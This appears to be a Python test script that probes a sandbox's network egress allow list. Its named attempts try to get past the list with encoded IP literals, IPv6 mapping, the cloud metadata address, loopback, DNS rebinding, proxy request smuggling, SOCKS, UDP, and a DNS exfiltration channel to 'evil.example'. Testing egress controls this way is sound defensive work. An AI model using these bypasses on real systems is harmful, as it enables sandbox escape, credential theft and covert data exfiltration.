"""One attempt to reach what the allow list does not name: attack.py NAME. The same code is the control outside."""
import os, socket, sys

PUBLIC, OTHER = "93.184.216.34", "93.184.216.35"


def get(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(10)
    s.connect((host, port))
    s.sendall(b"GET /attack HTTP/1.1\r\nHost: x\r\n\r\n")
    return s.recv(4096)


def through(request):
    """To the proxy, or outside, where there is none, to the service itself."""
    proxy = os.environ.get("http_proxy")
    s = socket.socket()
    s.settimeout(10)
    if not proxy:
        return None
    s.connect(("127.0.0.1", int(proxy.rsplit(":", 1)[1])))
    s.sendall(request.replace(b"CREDENTIAL", basic(proxy)))
    heard = b""
    while True:
        d = s.recv(4096)
        if not d:
            return heard
        heard += d


def basic(proxy):
    import base64
    return b"Proxy-Authorization: Basic " + base64.b64encode(proxy.split("//")[1].split("@")[0].encode())


def connect(host, port, direct=None, family=socket.AF_INET):
    target = f"{host}:{port}".encode()
    if through(b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + target + b"\r\nCREDENTIAL\r\n\r\nGET /attack HTTP/1.1\r\n\r\n") is None:
        get(direct or host, port, family)


def udp(host, port, data=b"secret"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(data, (host, port))


def ask(server, name):
    q = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\1\0\1"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(q, (server, 53))
    s.recv(1500)


def smuggle():
    head = b"POST http://registry.example/ HTTP/1.1\r\nHost: registry.example\r\nCREDENTIAL\r\nContent-Length: 4\r\n"
    hidden = b"GET http://other.example/attack HTTP/1.1\r\nHost: other.example\r\n\r\n"
    if through(head + b"\r\nbody" + hidden) is None:
        return get(OTHER, 443)
    through(head + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden)
    through(head + b"Content-Length: 60\r\n\r\nbody" + hidden)
    through(head.replace(b"Host: registry", b"Host: other") + b"\r\nbody")
    through(b"GET http://registry.example\x00.other.example/ HTTP/1.1\r\nHost: registry.example\r\nCREDENTIAL\r\n\r\n")


def socks(command):
    proxy = os.environ.get("http_proxy")
    if not proxy:
        return udp(OTHER, 53) if command == 3 else get(OTHER, 443)
    user, secret = proxy.split("//")[1].split("@")[0].split(":")
    s = socket.socket()
    s.settimeout(10)
    s.connect(("127.0.0.1", int(proxy.rsplit(":", 1)[1])))
    s.sendall(b"\5\1\2")
    s.recv(2)
    s.sendall(bytes([1, len(user)]) + user.encode() + bytes([len(secret)]) + secret.encode())
    s.recv(2)
    s.sendall(bytes([5, command, 0, 1]) + socket.inet_aton(OTHER) + (443).to_bytes(2, "big"))
    print(s.recv(10)[1])


def wrong():
    proxy = os.environ.get("http_proxy")
    if not proxy:
        return get(PUBLIC, 443)
    os.environ["http_proxy"] = proxy.replace("pinfold:", "pinfold:0")
    connect("registry.example", 443)


ATTACKS = {
    "literal": lambda: get(OTHER, 443),
    "literal-of-an-allowed-name": lambda: get(PUBLIC, 443),
    "another-port": lambda: get(PUBLIC, 8080),
    "another-port-by-proxy": lambda: connect(PUBLIC if "http_proxy" not in os.environ else "registry.example", 8080),
    "decimal": lambda: connect("1572395043", 443, OTHER),
    "octal": lambda: connect("0135.0270.0330.043", 443, OTHER),
    "hexadecimal": lambda: connect("0x5db8d823", 443, OTHER),
    "mapped": lambda: get("::ffff:" + OTHER, 443, socket.AF_INET6),
    "mapped-by-proxy": lambda: connect("[::ffff:" + OTHER + "]", 443, OTHER),
    "metadata": lambda: get("169.254.169.254", 80),
    "metadata-by-proxy": lambda: connect("169.254.169.254", 80),
    "metadata-by-name": lambda: connect("metadata.example", 80),
    "loopback": lambda: get("127.0.0.1", 443),
    "loopback-by-proxy": lambda: connect("127.0.0.1", 443),
    "loopback-as-localhost": lambda: connect("localhost", 443),
    "loopback-by-zero": lambda: connect("0.0.0.0", 443),
    "loopback6": lambda: get("::1", 443, socket.AF_INET6),
    "rebinding": lambda: connect("rebound.example", 443),
    "rebinding-direct": lambda: get("rebound.example", 443),
    "rebinding-to-this-machine": lambda: connect("own.example", 443),
    "rebinding-to-a-second-address": lambda: connect("second.example", 443),
    "rebinding-to-a-second-address6": lambda: connect("second6.example", 443, family=socket.AF_INET6),
    "rebinding-to-a-local-route6": lambda: connect("routed6.example", 8443, family=socket.AF_INET6),
    "rebinding-to-private": lambda: connect("private.example", 443),
    "ipv6": lambda: get("2606:2800:220:1::1", 443, socket.AF_INET6),
    "smuggling": smuggle,
    "socks-bind": lambda: socks(2),
    "socks-udp": lambda: socks(3),
    "wrong-credential": wrong,
    "udp": lambda: udp(OTHER, 53),
    "quic": lambda: udp(PUBLIC, 443),
    "names-as-a-channel": lambda: ask(os.environ.get("RESOLVER", "127.0.0.53"), "c2vjcmv0.evil.example"),
    "names-at-another-server": lambda: ask(OTHER, "c2vjcmv0.evil.example"),
}
try:
    ATTACKS[sys.argv[1]]()
except OSError as e:
    print(e)
